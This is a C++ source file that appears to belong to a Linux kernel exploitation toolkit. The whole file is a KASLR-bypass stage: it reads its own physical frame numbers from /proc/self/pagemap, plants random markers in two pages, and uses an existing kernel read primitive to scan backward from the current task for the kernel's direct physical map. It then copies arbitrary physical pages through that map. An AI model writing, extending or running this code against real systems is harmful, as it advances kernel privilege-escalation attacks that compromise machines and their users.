#include "common/kernel/introspect/kernel_pages.hpp"

#include <fcntl.h>
#include <sys/mman.h>
#include <sys/random.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <cstring>

#include "common/base/fd.hpp"
#include "common/base/mapping.hpp"
#include "common/base/page.hpp"

namespace crx {
namespace {

using Mark = std::array<char, 64>;

constexpr uint64_t kMapStep = uint64_t{1} << 30;  // the map begins at a multiple (arch/x86/mm/kaslr.c)
constexpr int kMostSteps = 16'384;                // memory of 16 TiB
constexpr uint64_t kPresent = uint64_t{1} << 63;
constexpr uint64_t kNumberBits = (uint64_t{1} << 55) - 1;

struct OwnPage {
  Mapping memory = Mapping::map(kPageSize, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS);
  Mark mark{};
  uint64_t number = 0, descriptor = 0;

  bool prepare(const KernelPages::FindDescriptor& find_descriptor) {
    if (::getrandom(mark.data(), mark.size(), 0) != static_cast<ssize_t>(mark.size())) return false;
    std::memcpy(memory.data(), mark.data(), mark.size());
    const Fd pagemap = try_open("/proc/self/pagemap", O_RDONLY | O_CLOEXEC);
    uint64_t entry = 0;
    const auto at = static_cast<off_t>(reinterpret_cast<uintptr_t>(memory.data()) / kPageSize * sizeof entry);
    if (!pagemap || ::pread(pagemap.get(), &entry, sizeof entry, at) != sizeof entry || (entry & kPresent) == 0)
      return false;
    number = entry & kNumberBits;
    descriptor = find_descriptor(memory.data());
    return number != 0 && descriptor != 0;
  }
  bool is_at(const KernelReader& reader, uint64_t address) const {
    Mark found{};
    return reader.copy(address, found.data(), found.size()) && found == mark;
  }
};

}  // namespace

std::optional<KernelPages> KernelPages::find(const KernelReader& reader, const FindDescriptor& find_descriptor) {
  OwnPage first, second;
  if (!first.prepare(find_descriptor) || !second.prepare(find_descriptor)) return std::nullopt;
  const uint64_t bytes = reader.size("page");
  const uint64_t descriptors = first.descriptor - first.number * bytes;
  if (second.descriptor != descriptors + second.number * bytes) return std::nullopt;
  // The structure of a thread lies in the map, somewhere behind its beginning.
  uint64_t map = reader.current_task() / kMapStep * kMapStep;
  for (int step = 0; step < kMostSteps; ++step, map -= kMapStep) {
    if (!first.is_at(reader, map + first.number * kPageSize)) continue;
    if (!second.is_at(reader, map + second.number * kPageSize)) return std::nullopt;
    return KernelPages(descriptors, bytes, map);
  }
  return std::nullopt;
}

bool KernelPages::copy(const KernelReader& reader, uint64_t descriptor, uint64_t offset, char* to,
                       std::size_t bytes) const {
  if (descriptor < descriptors_ || (descriptor - descriptors_) % descriptor_bytes_ != 0) return false;
  const uint64_t from = map_ + (descriptor - descriptors_) / descriptor_bytes_ * kPageSize + offset;
  for (std::size_t done = 0; done < bytes;) {
    const std::size_t part = std::min(bytes - done, KernelReader::kMostBytes);
    if (!reader.copy(from + done, to + done, part)) return false;
    done += part;
  }
  return true;
}

}  // namespace crx
